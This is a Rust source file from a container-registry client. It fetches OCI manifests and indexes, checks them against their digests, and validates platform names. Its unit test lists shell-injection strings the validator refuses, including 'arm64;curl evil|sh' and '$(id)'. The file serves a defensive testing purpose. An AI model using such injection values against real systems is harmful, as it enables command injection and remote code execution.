//! A resolved manifest → the platforms that it is for: one GET of the index, or of the manifest and its configuration.
//!
//! Bytes are checked against the digest that names them, so what is read here is true for everybody who knows the digest.

use std::fmt;
use std::marker::PhantomData;

use serde::Deserialize;
use serde::de::value::MapAccessDeserializer;
use serde::de::{Deserializer, Error as _, IgnoredAny, MapAccess, SeqAccess, Visitor};

use crate::nodes::content::{Artifact, Content, Entry, ReadContent, Rootfs};
use crate::nodes::platform::Platform;
use crate::reference::Digest;
use crate::registry::failure::{Failure, Weight};
use crate::registry::host_port;
use crate::registry::manifest::{self, Kind, Manifest, Nature};
use crate::registry::transport::{Method, Response};
use crate::registry::{Ask, Registry};

/// Entries of an index; more than any builder makes, and little enough to hold.
const MAX_ENTRIES: usize = 1_000;

/// Bytes of an operating system's or an architecture's name. What it is made of is printed in a line to type.
const MAX_WORD: usize = 64;

/// Bytes of a media type (RFC 6838 section 4.2: two names of at most 127 each).
const MAX_TYPE: usize = 255;

/// What a manifest or an index says of platforms and of what it is made of (opencontainers/image-spec `image-index.md`,
/// `manifest.md`).
#[derive(Default, Deserialize)]
#[serde(default)]
struct Body {
    manifests: Option<Entries>,
    config: Option<Object<Descriptor>>,
}

/// The layers of a manifest, for what is no image.
#[derive(Default, Deserialize)]
#[serde(default)]
struct Layers {
    layers: Vec<Object<Descriptor>>,
}

/// The configuration of what may be no image: whatever else stands in it is not looked at.
#[derive(Default, Deserialize)]
#[serde(default)]
struct Config {
    #[serde(flatten)]
    platform: PlatformText,
    rootfs: Option<Object<RootfsText>>,
}

#[derive(Default, Deserialize)]
#[serde(default)]
struct RootfsText {
    diff_ids: Option<Vec<IgnoredAny>>,
}

/// What is a JSON object. A derived reader takes a list of the values in its place, which no runtime does.
struct Object<T>(T);

/// The platforms of an index's entries, read one by one: an index of too many is an error before it is a list.
struct Entries(Vec<Entry>);

#[derive(Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
struct EntryText {
    media_type: Option<String>,
    artifact_type: Option<String>,
    digest: Option<String>,
    platform: Option<Object<PlatformText>>,
}

#[derive(Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
struct Descriptor {
    media_type: Option<String>,
    digest: Option<String>,
}

/// `platform` of a descriptor, and the same fields of an image configuration.
#[derive(Default, Deserialize)]
#[serde(default)]
struct PlatformText {
    os: Option<String>,
    architecture: Option<String>,
    variant: Option<String>,
    #[serde(rename = "os.version")]
    os_version: Option<String>,
}

// === impl Registry ===

impl Registry {
    /// The platforms and the length of `manifest`, which `ask` names by its digest, and which was just resolved with the same credential.
    ///
    /// # Errors
    /// Whatever the registry answered instead; the image itself is there.
    pub async fn content(&self, ask: &Ask, manifest: &Manifest) -> Result<ReadContent, Failure> {
        let (answer, _) = self.converse(ask, Method::Get).await?;
        let content = self.platforms(ask, manifest, &answer).await?;
        Ok(ReadContent { content, length: answer.body.len() as u64 })
    }

    async fn platforms(&self, ask: &Ask, manifest: &Manifest, answer: &Response) -> Result<Content, Failure> {
        let bytes = answer.body.as_slice();
        verify(bytes, &manifest.digest, ask).map_err(|failure| Failure { weight: Weight::Contradicted, ..failure })?;
        let Object(body): Object<Body> = read(bytes, &manifest.digest, ask)?;
        match (manifest.kind, body) {
            // containerd refuses what is of the other kind, or of both (`core/images/image.go`, `validateMediaType`).
            (Kind::Index, Body { manifests: Some(Entries(entries)), config: None }) => Ok(Content::Index(entries)),
            (Kind::Index, _) => Err(contradicted(ask, "something that is no index under the media type of an index")),
            (Kind::Image, Body { manifests: Some(Entries(entries)), .. }) if !entries.is_empty() => {
                Err(contradicted(ask, "an index under the media type of a manifest"))
            }
            (Kind::Image, _) if let Nature::Other(what) = manifest::nature_of_body(Kind::Image, bytes) => {
                Ok(Content::Other(what))
            }
            (Kind::Image, Body { config, .. }) => {
                let Object(config) = config.unwrap_or(Object(Descriptor::default()));
                let Some(digest) = config.digest.and_then(|digest| digest.parse().ok()) else {
                    return Err(Failure::nonsense(
                        format!("{} sends a manifest without a config", ask.endpoint.host),
                        None,
                    ));
                };
                let docker = manifest::is_docker(answer.header("content-type").unwrap_or_default());
                let config_type = config.media_type.unwrap_or_default();
                if !manifest::is_image_config(&config_type, docker) {
                    let blob = self.blob(ask, &digest, manifest::MAX_SIZE).await;
                    let config = blob.and_then(|body| checked(&body, &digest, ask)).ok();
                    return Ok(Content::Artifact(artifact(config_type, docker, bytes, config)));
                }
                let body = self.blob(ask, &digest, manifest::MAX_SIZE).await?;
                let Object(platform): Object<PlatformText> = checked(&body, &digest, ask)?;
                let refuse = |why| Failure::nonsense(format!("{} sends {why}", ask.endpoint.host), None);
                Platform::try_from(platform).map(Content::Single).map_err(refuse)
            }
        }
    }

    /// A small blob, with the authorization that the manifest's GET has just used.
    pub(super) async fn blob(&self, ask: &Ask, digest: &Digest, max_body: usize) -> Result<Vec<u8>, Failure> {
        let presented = self.session.known(self.transport.as_ref(), ask).await?;
        let refuse = |why: String| Failure::nonsense(format!("{} {why}", ask.endpoint.host), None);
        let url = host_port::read_url(&ask.endpoint.blob_url(&ask.reference, digest))
            .map_err(|_| refuse("is no host that a URL can name".to_owned()))?;
        let request = ask.request(Method::Get, url, &presented, max_body);
        let answer = self.transport.send(request).await;
        self.metrics.registry_request(&ask.endpoint.host, answer.as_ref().ok().map(|answer| answer.status));
        match answer {
            Ok(answer) if answer.status == 200 => {
                presented.accepted().await;
                Ok(answer.body)
            }
            Ok(answer) => Err(refuse(format!("answers a request for an image configuration with {}", answer.status))),
            Err(error) => Err(Failure::transport(error)),
        }
    }
}

/// The failure of a registry whose bytes are not what it announced for their digest.
fn contradicted(ask: &Ask, what: &str) -> Failure {
    let detail = format!("{} sends {what}", ask.endpoint.host);
    Failure { weight: Weight::Contradicted, ..Failure::nonsense(detail, None) }
}

pub(super) fn checked<'b, T: Deserialize<'b>>(body: &'b [u8], digest: &Digest, ask: &Ask) -> Result<T, Failure> {
    verify(body, digest, ask)?;
    read(body, digest, ask)
}

/// Holds bytes against the digest that names them.
fn verify(body: &[u8], digest: &Digest, ask: &Ask) -> Result<(), Failure> {
    if manifest::digest_of(body, digest.algorithm()).as_ref() == Some(digest) {
        return Ok(());
    }
    Err(Failure::nonsense(format!("{} sends other bytes than {digest}", ask.endpoint.host), None))
}

fn read<'b, T: Deserialize<'b>>(body: &'b [u8], digest: &Digest, ask: &Ask) -> Result<T, Failure> {
    let unreadable = || format!("{} sends something unreadable as {digest}", ask.endpoint.host);
    serde_json::from_slice(body).map_err(|_| Failure::nonsense(unreadable(), None))
}

/// What is known of a manifest whose configuration is of another type than an image's; `config` where it could be read.
fn artifact(config_type: String, docker: bool, manifest: &[u8], config: Option<Object<Config>>) -> Artifact {
    let layers: Layers = serde_json::from_slice(manifest).unwrap_or_default();
    let layer = |Object(layer): &&Object<Descriptor>| layer.media_type.as_deref().is_some_and(manifest::is_layer);
    let layers = layers.layers.iter().filter(layer).count();
    let listed = |rootfs: Option<Object<RootfsText>>| rootfs.and_then(|Object(rootfs)| rootfs.diff_ids);
    let (platform, rootfs) = match config {
        None => (Platform::default(), Rootfs::Unknown),
        Some(Object(Config { platform, rootfs })) => {
            let listed = listed(rootfs).unwrap_or_default().len();
            let rootfs = if listed > 0 && listed == layers { Rootfs::Unpacked } else { Rootfs::Missing };
            (Platform::try_from(platform).unwrap_or_default(), rootfs)
        }
    };
    let rootfs = if manifest::is_containerd_config(&config_type) { Rootfs::OfAnImage } else { rootfs };
    let word = config_type.len() <= MAX_TYPE && config_type.bytes().all(|byte| byte.is_ascii_graphic());
    let config_type = if word { config_type } else { String::new() };
    Artifact { config_type, rootfs, docker, platform }
}

// === impl Object ===

impl<'de, T: Deserialize<'de>> Deserialize<'de> for Object<T> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct ObjectVisitor<T>(PhantomData<T>);

        impl<'de, T: Deserialize<'de>> Visitor<'de> for ObjectVisitor<T> {
            type Value = Object<T>;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Object<T>, A::Error> {
                T::deserialize(MapAccessDeserializer::new(map)).map(Object)
            }
        }

        deserializer.deserialize_map(ObjectVisitor(PhantomData))
    }
}

// === impl Entries ===

impl<'de> Deserialize<'de> for Entries {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct EntriesVisitor;

        impl<'de> Visitor<'de> for EntriesVisitor {
            type Value = Entries;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, "at most {MAX_ENTRIES} entries")
            }

            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Entries, A::Error> {
                let mut entries = Vec::new();
                while let Some(Object(entry)) = seq.next_element::<Object<EntryText>>()? {
                    if entries.len() == MAX_ENTRIES {
                        return Err(A::Error::invalid_length(MAX_ENTRIES + 1, &self));
                    }
                    entries.push(Entry::try_from(entry).map_err(A::Error::custom)?);
                }
                Ok(Entries(entries))
            }
        }

        deserializer.deserialize_seq(EntriesVisitor)
    }
}

// === impl EntryText ===

impl TryFrom<EntryText> for Entry {
    type Error = &'static str;

    fn try_from(text: EntryText) -> Result<Self, Self::Error> {
        let EntryText { media_type, artifact_type, digest, platform } = text;
        let other = |media_type: &str| !matches!(manifest::nature(media_type), Nature::Runnable(_) | Nature::Schema1);
        // A tool may write the media type of the configuration there (opencontainers/image-spec `descriptor.md`).
        let artifact = |artifact_type: &str| !manifest::is_image_config(artifact_type, true);
        let said = |text: Option<String>| text.filter(|text| !text.is_empty());
        Ok(Self {
            platform: platform.map(|Object(platform)| Platform::try_from(platform)).transpose()?,
            digest: digest.and_then(|digest| digest.parse().ok()),
            artifact: said(media_type).is_some_and(|it| other(&it))
                || said(artifact_type).is_some_and(|it| artifact(&it)),
        })
    }
}

// === impl PlatformText ===

impl TryFrom<PlatformText> for Platform {
    type Error = &'static str;

    fn try_from(text: PlatformText) -> Result<Self, Self::Error> {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-".contains(&byte);
        let word = |word: Option<String>| match word.unwrap_or_default() {
            word if word.len() <= MAX_WORD && word.bytes().all(plain) => Ok(word),
            _ => Err("a platform that is no word"),
        };
        Ok(Self {
            os: word(text.os)?,
            architecture: word(text.architecture)?,
            variant: word(text.variant)?,
            // What is no word is no version either: no host takes it.
            os_version: word(text.os_version).unwrap_or_else(|_| "?".to_owned()),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_platform_is_made_of_words_that_a_shell_takes_as_such() {
        for (architecture, expected) in [
            ("arm64", true),
            ("arm/v7", true),
            ("x86_64-v2.1", true),
            ("", true),
            ("arm64;curl evil|sh", false),
            ("$(id)", false),
            ("arm64\n  kubectl", false),
            ("ärm", false),
        ] {
            let text = || Some(architecture.to_owned());
            let of = |os, architecture, variant| {
                Platform::try_from(PlatformText { os, architecture, variant, os_version: text() }).is_ok()
            };
            assert_eq!(of(None, text(), None), expected, "{architecture}");
            assert_eq!(of(text(), None, None), expected, "{architecture}");
            assert_eq!(of(None, None, text()), expected, "{architecture}");
        }
    }
}
